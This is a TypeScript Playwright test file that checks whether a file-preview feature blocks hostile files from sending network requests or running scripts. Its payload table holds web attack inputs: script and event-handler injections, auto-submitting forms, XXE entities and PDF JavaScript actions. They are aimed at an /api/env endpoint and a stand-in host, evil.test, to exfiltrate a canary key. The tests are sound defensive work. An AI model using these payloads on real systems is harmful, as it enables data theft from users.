import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';

import { describeInChromium } from '../chromium.ts';
import { DEADLINE_MS } from '../deadline.ts';
import { launchChromium } from '../launch-chromium.ts';
import { startRecordingProxy } from '../recording-proxy.ts';
import { startStoredeck, type Storedeck } from '../storedeck.ts';
import { makeWorkingFolder } from '../working-folder.ts';

/**
 * Hostile files, by name. Each file tries to send a request to `URL` when a browser shows the file. The test writes
 * each file twice: with an address of our server instead of `URL`, and with an address of another server.
 */
const FILES: Record<string, string> = {
  'script.html': `<!doctype html><p>shown</p><script>fetch('URL')</script><script src="URL"></script><img src=x onerror="fetch('URL')"><body onload="fetch('URL')">`,
  'refresh.html': `<!doctype html><meta http-equiv="refresh" content="0;url=URL"><p>shown</p>`,
  'form.html': `<!doctype html><form id=f method=post action="URL" enctype="text/plain"><input name=PORT value=1><button autofocus>x</button></form><script>f.submit()</script>`,
  'frames.html': `<!doctype html><iframe src="URL"></iframe><object data="URL"></object><embed src="URL"><iframe srcdoc="<script>fetch('URL')</script>"></iframe><portal src="URL"></portal>`,
  'styles.html': `<!doctype html><link rel=stylesheet href="URL"><style>@import "URL"; @font-face { font-family: f; src: url(URL) } p { font-family: f; cursor: url(URL), auto; background: url(http://evil.test/x) }</style><p>shown</p>`,
  'hints.html': `<!doctype html><link rel=preload as=script href="URL"><link rel=modulepreload href="URL"><link rel=prefetch href="URL"><link rel=manifest href="URL"><link rel=preconnect href="URL"><base href="URL"><video src="URL" autoplay></video><audio src="URL" autoplay></audio><track src="URL">`,
  'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('URL')"><script>fetch('URL')</script><script xlink:href="URL"/><use href="URL#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="URL"/></foreignObject><animate onbegin="fetch('URL')"/><text y="20">shown</text></svg>`,
  'script.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="fetch('URL')"><script>fetch('URL')</script><iframe src="URL"/></body></html>`,
  'style.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="URL"?><!DOCTYPE a [<!ENTITY e SYSTEM "URL">]><a xmlns:h="http://www.w3.org/1999/xhtml">&e;<h:script>fetch('URL')</h:script></a>`,
  'archive.mhtml': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n<script>fetch('URL')</script><img src="URL">\r\n--b--\r\n`,
  'notes.md': `# shown\n<script>fetch('URL')</script>\n<img src="URL">\n[x](javascript:fetch('URL'))`,
  'paper.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(URL)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\("URL"\\))>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  'code.js': `fetch('URL')`,
  'no-extension': `<!doctype html><script>fetch('URL')</script>`,
};

describeInChromium('a hostile file in the preview', () => {
  let folder: Awaited<ReturnType<typeof makeWorkingFolder>>;
  let server: Storedeck;
  let proxy: Awaited<ReturnType<typeof startRecordingProxy>>;
  let otherServer: Server;
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];

  beforeAll(async () => {
    folder = await makeWorkingFolder({ ASC_KEY_ID: 'CANARY7KEY' });
    server = await startStoredeck(['--dir', folder.dir]);
    proxy = await startRecordingProxy(server.port);
    otherServer = createServer(({ url = '' }, response) => {
      requests.push(url);
      response.setHeader('Access-Control-Allow-Origin', '*').end('ok');
    });
    await new Promise<void>((resolve) => otherServer.listen(0, '127.0.0.1', resolve));
    browser = await launchChromium(['--host-resolver-rules=MAP evil.test 127.0.0.1']);
    page = await browser.newPage();
    page.setDefaultTimeout(DEADLINE_MS);
    const { port } = otherServer.address() as AddressInfo;
    for (const [name, text] of Object.entries(FILES)) {
      await writeFile(
        join(folder.dir, `own-${name}`),
        text.replaceAll('URL', `http://127.0.0.1:${proxy.port}/api/env?stolen=${name}`),
      );
      await writeFile(
        join(folder.dir, `far-${name}`),
        text.replaceAll('URL', `http://evil.test:${port}/stolen=${name}`),
      );
    }
  });

  afterAll(async () => {
    await browser?.close();
    otherServer?.closeAllConnections();
    otherServer?.close();
    await proxy?.close();
    await server?.close();
    await folder?.remove();
  });

  const own = (path: string): string => `http://127.0.0.1:${proxy.port}${path}`;

  /** Shows a file, and resolves when the file has loaded and sends no more requests. */
  async function show(name: string, where: string): Promise<void> {
    const address = own(`/api/preview-file?path=${encodeURIComponent(join(folder.dir, name))}`);
    if (where === 'in a tab') {
      // If the browser saves a file instead of showing it, the navigation fails.
      await page
        .goto(address, { waitUntil: 'networkidle' })
        .catch((error: Error) => expect(error.message).toMatch(/Download|ERR_ABORTED/));
    } else {
      await page.goto(own('/'));
      const responded = page.waitForResponse(address);
      await page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src }));
      }, address);
      expect((await responded).status()).toBe(200);
      const frame = await (await page.waitForSelector('iframe')).contentFrame();
      await frame?.waitForLoadState('networkidle');
    }
  }

  describe.each(Object.keys(FILES))('%s', (name) => {
    test.each(['in a tab', 'in a frame of our page'])('sends no request %s', async (where) => {
      for (const kind of ['own', 'far']) await show(`${kind}-${name}`, where);
      expect(proxy.seen(`stolen=${name}`)).toEqual([]);
      expect(requests.filter((url) => url.includes(`stolen=${name}`))).toEqual([]);
      expect(await page.context().cookies()).toEqual([]);
    });
  });

  test.each(['a preview', 'a file of assets'])('our page cannot run or apply %s', async (kind) => {
    const at = join(folder.dir, 'assets/current');
    await mkdir(at, { recursive: true });
    for (const name of ['code.js', 'look.css']) await writeFile(join(at, name), 'globalThis.ran = true');
    const address = (name: string) =>
      kind === 'a file of assets'
        ? `/assets/current/${name}`
        : `/api/preview-file?${new URLSearchParams({ path: join(at, name) })}`;
    await page.goto(own('/'));
    const outcomes = await page.evaluate(
      async ({ code, look }) => {
        const outcome = (element: HTMLElement | Worker) =>
          new Promise<string>((resolve) => {
            element.addEventListener('load', () => resolve('accepted'));
            element.addEventListener('error', () => resolve('blocked'));
            if (element instanceof HTMLElement) document.head.append(element);
          });
        return Promise.all([
          import(code).then(
            () => 'accepted',
            () => 'blocked',
          ),
          navigator.serviceWorker.register(code).then(
            () => 'accepted',
            () => 'blocked',
          ),
          outcome(new Worker(code)),
          outcome(Object.assign(document.createElement('script'), { src: code })),
          outcome(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: look })),
        ]);
      },
      { code: address('code.js'), look: address('look.css') },
    );
    expect(outcomes).toEqual(Array(5).fill('blocked'));
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  });

  test('a picture is shown', async () => {
    const png =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg==';
    await writeFile(join(folder.dir, 'shot.png'), Buffer.from(png, 'base64'));
    await page.goto(own(`/api/preview-file?path=${encodeURIComponent(join(folder.dir, 'shot.png'))}`));
    expect(await page.evaluate(() => document.images[0]?.naturalWidth)).toBe(1);
  });

  test('requests of a page that may run scripts are recorded, so these tests can fail', async () => {
    await page.goto(own('/'));
    await page.evaluate(() => fetch('/api/health?trap').then(() => 0));
    expect(proxy.seen('/api/health?trap')).toHaveLength(1);
    const { port } = otherServer.address() as AddressInfo;
    await page.goto(`http://evil.test:${port}/trap`);
    expect(requests).toContain('/trap');
  });
});
